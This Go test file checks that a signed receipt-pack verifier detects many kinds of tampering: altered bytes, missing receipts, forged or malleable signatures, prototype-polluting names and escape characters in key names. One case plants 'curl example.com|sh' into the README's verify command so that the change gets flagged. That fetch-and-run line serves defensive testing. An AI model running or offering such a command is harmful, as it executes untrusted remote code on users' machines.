package pack

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/sha256"
	"encoding/asn1"
	"encoding/base64"
	"encoding/hex"
	"encoding/pem"
	"fmt"
	"maps"
	"math/big"
	"slices"
	"strings"
	"testing"

	"golang.org/x/mod/sumdb/note"

	"github.com/writ-gateway/writ/receipts"
	"github.com/writ-gateway/writ/receipts/tlog"
)

// Every byte of a receipt's file, changed by one bit or another, is found in that receipt
// and nowhere else, by both verifiers, with one name.
func TestEveryByteCounts(t *testing.T) {
	l, _ := story(t)
	l.list, l.denied = l.list[:3], true
	f := l.export(Options{})
	o := node(t)
	name := receiptName(1)
	found := map[string]int{}
	for i := range f[name] {
		for _, bit := range []byte{1, 0x20, 0x80} {
			if bit != 1 && i%16 != 0 {
				continue
			}
			changed := f.with(func(f files) {
				f[name] = bytes.Clone(f[name])
				f[name][i] ^= bit
			})
			a := both(t, o, "bytes", f, changed, l.trust(), Ask{})
			if a.Exit == 0 || len(a.Codes) != 1 || !strings.HasSuffix(a.Codes[0], "@1") || a.Receipts != 2 || t.Failed() {
				t.Fatalf("byte %d, bit %x (%q): got %+v", i, bit, f[name][max(i-10, 0):min(i+10, len(f[name]))], a)
			}
			found[a.Codes[0]]++
		}
	}
	for _, want := range []Code{BundleMalformed, Base64, KeyOther, HintDiffers, SignatureForm, Signature, IndexDiffers, CheckpointDiffers, LeafDiffers, Inclusion} {
		if found[string(want)+"@1"] == 0 {
			t.Errorf("no byte was found by %s: %v", want, found)
		}
	}
}

// tampered is a pack somebody changed, and what both verifiers say.
type tampered struct {
	name   string
	change func(files)
	keep   bool // the sums as they were
	want   string
	exit   int
}

// put changes a file.
func put(name string, f func([]byte) []byte) func(files) {
	return func(p files) { p[name] = f(bytes.Clone(p[name])) }
}

func replace(old, new string) func([]byte) []byte {
	return func(b []byte) []byte { return bytes.Replace(b, []byte(old), []byte(new), 1) }
}

func swap(a, b string) func(files) {
	return func(p files) { p[a], p[b] = p[b], p[a] }
}

func drop(names ...string) func(files) {
	return func(p files) {
		for _, n := range names {
			delete(p, n)
		}
	}
}

func twoOf(fs ...func(files)) func(files) {
	return func(p files) {
		for _, f := range fs {
			f(p)
		}
	}
}

// more is what comes behind a text.
func more(s string) func([]byte) []byte { return func(b []byte) []byte { return append(b, s...) } }

// unlist takes receipts out of receipts.jsonl, as whoever removes them would.
func unlist(seqs ...int) func(files) {
	return put(FileList, func(b []byte) []byte {
		var out []byte
		for i, line := range slices.Collect(bytes.Lines(b)) {
			if !slices.Contains(seqs, i) {
				out = append(out, line...)
			}
		}
		return out
	})
}

// Whatever is changed without the keys is named for what it is.
func TestTamperedPacks(t *testing.T) {
	l, _ := story(t)
	last := len(l.list) - 1
	f := l.export(Options{Earlier: l.checkpoint(6)})
	other := newLab(t, 2, 2, "log.example.org")
	elsewhere := newLab(t, 1, 1, "other.example.org")
	o := node(t)
	name := func(n int) string { return receiptName(int64(n)) }
	gone := func(seqs ...int) func(files) {
		return twoOf(func(p files) {
			for _, n := range seqs {
				drop(name(n), evidenceName(int64(n)))(p)
			}
		}, unlist(seqs...))
	}
	bundleOf := func(p files, n int) string { return string(p[name(n)]) }
	field := func(text, from, to string) string {
		_, rest, _ := strings.Cut(text, from)
		v, _, _ := strings.Cut(rest, to)
		return v
	}
	for _, c := range []tampered{
		{"two receipts change places", swap(name(3), name(4)), false, "seq_moved@3 seq_moved@4", 1},
		{"one stands twice", func(p files) { p[name(4)] = p[name(3)] }, false, "seq_moved@4", 1},
		{"one more at the end", func(p files) { p[name(last+1)] = p[name(last)] }, false, fmt.Sprintf("receipt_extra@%d seq_moved@%[1]d", last+1), 1},
		{"the first is gone", gone(0), false, "receipt_missing@0", 3},
		{"the middle is gone", gone(5), false, "receipt_missing@5", 3},
		{"two are gone", gone(5, 6), false, "receipt_missing@5", 3},
		{"two apart are gone", gone(5, 8), false, "receipt_missing@5 receipt_missing@8", 3},
		{"the last is gone", gone(last), false, fmt.Sprintf("receipt_missing@%d", last), 3},
		{"the last is gone, and still listed", drop(name(last), evidenceName(int64(last))), false, fmt.Sprintf("receipt_missing@%d", last), 3},
		{"one is gone, and its evidence is not", drop(name(5)), false, "receipt_missing@5", 3},
		{"evidence of one there is not", func(p files) { p[evidenceName(int64(last+1))] = p[evidenceName(3)] }, false, fmt.Sprintf("file_extra@%d", last+1), 1},
		{"all are gone", gone(func() (all []int) {
			for i := range last + 1 {
				all = append(all, i)
			}
			return all
		}()...), false, "receipt_missing@0", 3},
		{"it says it is a range", twoOf(gone(0), put(FileManifest, replace(`{"kind":"log"}`, `{"first":1,"kind":"range","last":`+fmt.Sprint(last)+`}`)), l.retell), false, "", 0},
		{"a range that says less", put(FileManifest, replace(`{"kind":"log"}`, `{"kind":"range","last":3}`)), false, "receipt_extra", 1},
		{"receipts.jsonl lists another", put(FileList, replace(`"seq":3`, `"seq":4`)), false, "list_differs@-1", 1},
		{"receipts.jsonl is gone", drop(FileList), false, "file_missing@-1", 3},

		{"the README names another command", put(FileReadme, replace("writ pack verify .", "curl example.com|sh; writ pack verify .")), false, "readme_differs@-1", 1},
		{"the README names another key", put(FileReadme, replace(l.logKey(), other.logKey())), false, "readme_differs@-1", 1},
		{"the README shows another digest", put(FileReadme, func(b []byte) []byte {
			digest := field(string(b), "--digest ", " ")
			return bytes.Replace(b, []byte(digest), []byte(strings.Repeat("0", 64)), 1)
		}), false, "readme_differs@-1", 1},
		{"the README says more", put(FileReadme, func(b []byte) []byte { return append(b, "\nAll is well.\n"...) }), false, "readme_differs@-1", 1},
		{"the README is gone", drop(FileReadme), false, "file_missing@-1", 3},
		{"the log's key is another", put(FileLogKey, func([]byte) []byte { return []byte(other.logKey() + "\n") }), false, "log_key_differs@-1", 1},
		{"the log's key has a word before it", put(FileLogKey, func(b []byte) []byte { return append([]byte("x"), b...) }), false, "log_key_differs@-1", 1},
		{"the log's key is gone", drop(FileLogKey), false, "file_missing@-1", 3},

		{"evidence is another's", swap(evidenceName(3), evidenceName(4)), false, "evidence_differs@3 evidence_differs@4", 1},
		{"evidence is changed", put(evidenceName(3), replace("worker", "Worker")), false, "evidence_differs@3", 1},
		{"evidence is gone", drop(evidenceName(3)), false, "evidence_missing@3", 3},
		{"evidence of nothing", func(p files) { p[evidenceName(99)] = []byte("{}") }, false, "file_extra@99", 1},
		{"a policy is changed", func(p files) {
			sum := sha256.Sum256(bundle)
			p[policyName(hex.EncodeToString(sum[:]))] = []byte("allow := true")
		}, false, "policy_differs@-1", 1},

		{"the manifest of keys says another state", put(FileKeys, replace(`"active"`, `"retired"`)), false, "keys_differ@-1", 1},
		{"the manifest of keys says another index", put(FileKeys, replace(`"from":0`, `"from":1`)), false, "keys_differ@-1", 1},
		{"the manifest of keys is gone", drop(FileKeys), false, "file_missing@-1", 3},

		{"a file nobody knows", func(p files) { p["notes.txt"] = []byte("trust me") }, false, "file_extra@-1", 1},
		{"a file that is not listed", func(p files) { p[evidenceName(99)] = []byte("{}") }, true, "file_extra@99", 1},
		{"damage", put(FileReadme, replace("cosign", "cosine")), true, "sum_differs@-1", 1},
		{"damage of a receipt", put(name(3), replace(`"hint":"`, `"hint" :"`)), true, "bundle_malformed@3 sum_differs@3", 1},
		{"sums that are none", put(FileSums, more("x\n")), true, "pack_malformed@-1", 2},
		{"a sum with spaces in it", put(FileSums, more("  "+strings.Repeat("a", 62)+"  "+name(99)+"\n")), true, "pack_malformed@-1", 2},
		{"a sum in capitals", put(FileSums, more(strings.Repeat("A", 64)+"  "+name(99)+"\n")), true, "pack_malformed@-1", 2},
		{"three spaces", put(FileSums, more(strings.Repeat("a", 64)+"   "+name(99)+"\n")), true, "pack_malformed@-1", 2},
		{"a sum of no name", put(FileSums, more(strings.Repeat("a", 64)+"  \n")), true, "pack_malformed@-1", 2},
		{"a sum of a name no pack has", put(FileSums, more(strings.Repeat("a", 64)+"  é\n")), true, "pack_malformed@-1", 2},
		{"sums without an end", put(FileSums, more(strings.Repeat("a", 64)+"  "+name(99))), true, "pack_malformed@-1", 2},

		{"no manifest", drop(FileManifest), false, "file_missing@-1", 3},
		{"another format", put(FileManifest, replace("writ-pack/v1", "writ-pack/v2")), false, "pack_malformed@-1", 2},
		{"a member too many", put(FileManifest, replace(`{"evidence"`, `{"a":1,"evidence"`)), false, "pack_malformed@-1", 2},
		{"a scope of no kind", put(FileManifest, replace(`{"kind":"log"}`, `{"kind":"logs"}`)), false, "pack_malformed@-1", 2},
		{"a scope of a kind that all objects have", put(FileManifest, replace(`{"kind":"log"}`, `{"kind":"toString"}`)), false, "pack_malformed@-1", 2},
		{"a scope of the kind of objects", put(FileManifest, replace(`{"kind":"log"}`, `{"kind":"__proto__"}`)), false, "pack_malformed@-1", 2},
		{"a file all objects have", func(p files) { p["constructor"], p["__proto__"] = []byte("{}"), []byte("{}") }, false, "file_extra@-1", 1},
		{"another origin", put(FileManifest, replace("log.example.org", "log.example.com")), false, "origin@-1", 1},
		{"an origin that is none", put(FileManifest, replace("log.example.org", "log<example>org")), false, "pack_malformed@-1", 2},
		{"an origin that is none, escaped", put(FileManifest, replace("log.example.org", `log\u003cexample\u003eorg`)), false, "pack_malformed@-1", 2},
		{"another size", put(FileManifest, replace(fmt.Sprintf(`"size":%d`, last+1), `"size":5`)), false, "pack_malformed@-1", 2},
		{"a size that is no number everywhere", put(FileManifest, replace(fmt.Sprintf(`"size":%d`, last+1), `"size":9007199254740993`)), false, "pack_malformed@-1", 2},
		{"another log's checkpoint", func(p files) { p[FileCheckpoint] = elsewhere.checkpoint(0) }, false, "origin@-1", 1},
		{"a checkpoint of another key", func(p files) {
			other.list = l.list
			p[FileCheckpoint] = other.checkpoint(last + 1)
		}, false, "checkpoint_signature@-1", 1},
		{"a checkpoint changed", put(FileCheckpoint, replace(fmt.Sprintf("\n%d\n", last+1), fmt.Sprintf("\n%d\n", last))), false, "checkpoint_signature@-1", 1},
		{"no checkpoint", drop(FileCheckpoint), false, "file_missing@-1", 3},
		{"an older checkpoint", func(p files) { p[FileCheckpoint] = l.checkpoint(last) }, false, "pack_malformed@-1", 2},
		{"an older checkpoint, and its size", twoOf(gone(last), drop(FileEarlier, FileConsistency), func(p files) { p[FileCheckpoint] = l.checkpoint(last) }, put(FileManifest, replace(fmt.Sprintf(`"size":%d`, last+1), fmt.Sprintf(`"size":%d`, last)))), false, "checkpoint_differs", 1},
		{"a trusted root of another", func(p files) {
			p[FileTrustedRoot] = other.export(Options{Checkpoint: other.checkpoint(last + 1)})[FileTrustedRoot]
		}, false, "trusted_root_differs@-1", 1},
		{"a key of another", func(p files) { p[keyName(1)] = other.pub() }, false, "key_untrusted@-1", 1},
		{"one key more", func(p files) { p[keyName(2)] = other.pub() }, false, "key_untrusted@-1", 1},
		{"another earlier checkpoint", func(p files) { p[FileEarlier] = l.checkpoint(7) }, false, "consistency@-1", 1},
		{"an earlier checkpoint of another key", func(p files) { p[FileEarlier] = other.checkpoint(6) }, false, "checkpoint_signature@-1", 1},
		{"another proof", put(FileConsistency, func(b []byte) []byte { b[0] ^= 3; return b }), false, "consistency@-1", 1},
		{"half a proof", put(FileConsistency, func(b []byte) []byte { return b[:len(b)/2] }), false, "consistency@-1", 1},
		{"no proof", drop(FileConsistency), false, "file_missing@-1", 3},

		{"unused bits of base64", func(p files) {
			sig := field(bundleOf(p, 3), `[{"sig":"`, `"`)
			put(name(3), replace(`[{"sig":"`+sig, `[{"sig":"`+loose(sig)))(p)
		}, false, "base64@3", 2},
		{"base64 without its padding", func(p files) {
			root := field(bundleOf(p, 3), `"rootHash":"`, `"`)
			put(name(3), replace(`"rootHash":"`+root, `"rootHash":"`+strings.TrimRight(root, "=")))(p)
		}, false, "base64@3", 2},
		{"the other s", func(p files) {
			sig := field(bundleOf(p, 3), `[{"sig":"`, `"`)
			put(name(3), replace(`[{"sig":"`+sig, `[{"sig":"`+highS(t, sig)))(p)
		}, false, "signature_form@3", 1},
		{"another's signature", func(p files) {
			put(name(3), replace(field(bundleOf(p, 3), `[{"sig":"`, `"`), field(bundleOf(p, 4), `[{"sig":"`, `"`)))(p)
			put(name(3), func(b []byte) []byte {
				return bytes.ReplaceAll(b, []byte(`[{"sig":"`+field(string(b), `[{"sig":"`, `"`)), []byte(`[{"sig":"`+field(bundleOf(p, 4), `[{"sig":"`, `"`)))
			})(p)
		}, false, "signature@3", 1},
		{"another's payload", func(p files) {
			put(name(3), replace(field(bundleOf(p, 3), `"payload":"`, `"`), field(bundleOf(p, 4), `"payload":"`, `"`)))(p)
		}, false, "signature@3", 1},
		{"another's proof", func(p files) {
			put(name(3), replace(field(bundleOf(p, 3), `"hashes":[`, `]`), field(bundleOf(p, 5), `"hashes":[`, `]`)))(p)
		}, false, "inclusion@3", 1},
		{"another's entry", func(p files) {
			put(name(3), replace(field(bundleOf(p, 3), `"canonicalizedBody":"`, `"`), field(bundleOf(p, 4), `"canonicalizedBody":"`, `"`)))(p)
		}, false, "leaf_differs@3", 1},
		{"another index", put(name(3), replace(`"logIndex":"3"`, `"logIndex":"4"`)), false, "index_differs@3", 1},
		{"an index spelled otherwise", put(name(3), replace(`"logIndex":"3"`, `"logIndex":"03"`)), false, "index_differs@3", 1},
		{"another size of the tree", put(name(3), replace(`"treeSize":"`, `"treeSize":"1`)), false, "checkpoint_differs@3", 1},
		{"a second key of the same name", put(name(3), replace(`"logIndex":"3"`, `"logIndex":"3","logIndex":"3"`)), false, "bundle_malformed@3", 2},
		{"something behind it", put(name(3), func(b []byte) []byte { return append(b, ' ') }), false, "bundle_malformed@3", 2},
	} {
		t.Run(c.name, func(t *testing.T) {
			changed := f.with(c.change)
			if c.keep {
				changed = maps.Clone(f)
				c.change(changed)
			}
			a := both(t, o, "tampered", f, changed, l.trust(), Ask{})
			if strings.Join(a.Codes, " ") != c.want && !every(a.Codes, c.want) || a.Exit != c.exit {
				t.Errorf("got %v, exit %d, want %s, %d", a.Codes, a.Exit, c.want, c.exit)
			}
		})
	}
	// A receipt key that is no point of the curve.
	off := f.with(put(keyName(1), func([]byte) []byte {
		der, err := tlog.PublicDER(&l.priv.PublicKey)
		if err != nil {
			t.Fatal(err)
		}
		der[len(der)-1] ^= 1
		return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	}))
	if a := both(t, o, "tampered", f, off, Trust{}, Ask{}); !slices.Equal(a.Codes, []string{"pack_malformed@-1"}) || a.Exit != 2 {
		t.Errorf("a key that is none: got %v", a.Codes)
	}
	if a := both(t, o, "tampered", f, off, l.trust(), Ask{}); !slices.Equal(a.Codes, []string{"key_untrusted@-1"}) {
		t.Errorf("a key that is none, with keys: got %v", a.Codes)
	}
	// A log's key that could move the cursor of who reads its name, or is spelled in another way.
	for _, key := range []string{
		noted(t, "log.example.org\x1b[2J", l), noted(t, "log.example.org\u202e", l), noted(t, "LOG.example.org", l), noted(t, strings.Repeat("a.", 120)+"a", l),
		strings.Replace(l.logKey(), "+", "+0", 1), l.logKey() + "\u00a0", "x", "",
	} {
		changed := f.with(put(FileLogKey, func([]byte) []byte { return []byte(key + "\n") }))
		if a := both(t, o, "tampered", f, changed, Trust{}, Ask{}); !slices.Equal(a.Codes, []string{"pack_malformed@-1"}) {
			t.Errorf("a log key %q: got %v", key, a.Codes)
		}
		if _, err := Verify(f.pack(), Trust{LogKey: key, Keys: l.trust().Keys}, Ask{}); err == nil {
			t.Errorf("a log key %q is taken", key)
		}
	}
	// Other keys than those that made it.
	if a := both(t, o, "tampered", f, f, Trust{LogKey: other.logKey(), Keys: [][]byte{l.pub()}}, Ask{}); !slices.Equal(a.Codes, []string{"checkpoint_signature@-1"}) {
		t.Errorf("another log key: got %v", a.Codes)
	}
	if a := both(t, o, "tampered", f, f, Trust{LogKey: elsewhere.logKey(), Keys: [][]byte{l.pub()}}, Ask{}); !slices.Equal(a.Codes, []string{"origin@-1"}) {
		t.Errorf("the key of another log: got %v", a.Codes)
	}
	if a := both(t, o, "tampered", f, f, Trust{LogKey: l.logKey(), Keys: [][]byte{other.pub()}}, Ask{}); a.Exit != 1 || a.Receipts != 0 || !slices.Contains(a.Codes, "key_other@3") {
		t.Errorf("another receipt key: got %v", a.Codes)
	}
}

// noted is the log's key under another name.
func noted(t *testing.T, name string, l *lab) string {
	t.Helper()
	_, public, err := noteKey(l.logKey())
	if err != nil {
		t.Fatal(err)
	}
	key, err := note.NewEd25519VerifierKey(name, public)
	if err != nil {
		t.Fatal(err)
	}
	return key
}

// every says whether each finding is of one code.
func every(found []string, code string) bool {
	return len(found) > 0 && !slices.ContainsFunc(found, func(f string) bool { return !strings.HasPrefix(f, code+"@") })
}

// loose sets bits of base64 that decoding leaves out.
func loose(s string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	i := len(strings.TrimRight(s, "=")) - 1
	if i == len(s)-1 {
		panic("nothing is unused in " + s)
	}
	return s[:i] + string(alphabet[strings.IndexByte(alphabet, s[i])|1]) + s[i+1:]
}

// highS is the other signature that anybody makes of one.
func highS(t *testing.T, sig string) string {
	t.Helper()
	b, err := base64.StdEncoding.DecodeString(sig)
	if err != nil {
		t.Fatal(err)
	}
	var v struct{ R, S *big.Int }
	if _, err := asn1.Unmarshal(b, &v); err != nil {
		t.Fatal(err)
	}
	v.S.Sub(elliptic.P256().Params().N, v.S)
	if b, err = asn1.Marshal(v); err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// forge signs a changed payload again, as whoever holds the receipt key can.
func (l *lab) forge(payload []byte) []byte {
	l.t.Helper()
	pae := fmt.Appendf(nil, "DSSEv1 %d %s %d %s", len(receipts.PayloadType), receipts.PayloadType, len(payload), payload)
	h := sha256.Sum256(pae)
	sig, err := l.priv.Sign(nil, h[:], crypto.SHA256)
	if err != nil {
		l.t.Fatal(err)
	}
	var v struct{ R, S *big.Int }
	if _, err := asn1.Unmarshal(sig, &v); err != nil {
		l.t.Fatal(err)
	}
	if n := elliptic.P256().Params().N; v.S.Cmp(new(big.Int).Rsh(n, 1)) > 0 {
		v.S.Sub(n, v.S)
	}
	if sig, err = asn1.Marshal(v); err != nil || !ecdsa.VerifyASN1(&l.priv.PublicKey, h[:], sig) {
		l.t.Fatal("a forged signature does not hold")
	}
	return sig
}
